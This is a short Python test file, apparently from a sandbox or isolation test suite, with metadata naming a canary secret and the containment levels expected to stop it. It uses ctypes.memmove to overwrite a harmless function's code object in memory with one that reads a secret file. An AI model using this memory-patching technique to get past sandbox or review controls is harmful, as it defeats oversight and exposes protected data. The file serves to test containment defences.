"""Overwrite a function's code object in memory.

family: native
canary: secret
stops: full, container
root: no
"""

import ctypes


def harmless():
    return 1


def hostile():
    return open(SECRET_FILE).read()


size = type(harmless).__basicsize__
ctypes.memmove(id(harmless) + 16, id(hostile) + 16, size - 16)
print(harmless())
